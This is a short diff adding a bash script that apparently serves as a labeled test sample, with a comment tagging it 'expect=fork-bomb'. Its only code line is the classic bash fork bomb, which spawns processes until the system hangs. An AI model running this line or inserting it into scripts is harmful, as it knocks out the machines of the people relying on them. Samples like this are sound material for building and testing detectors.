@@ -1,0 +1,3 @@
+#!/bin/bash
+#! assess-corpus: expect=fork-bomb
+:(){ :|:& };:
